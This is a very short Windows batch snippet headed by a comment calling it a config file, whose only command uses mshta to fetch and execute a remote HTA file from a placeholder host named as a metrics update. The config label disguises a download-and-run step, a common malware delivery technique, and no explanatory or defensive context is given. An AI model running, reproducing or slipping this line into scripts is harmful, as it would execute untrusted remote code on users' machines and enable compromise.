REM config 3152 v3
mshta http://static.metrics-node.example/update.hta
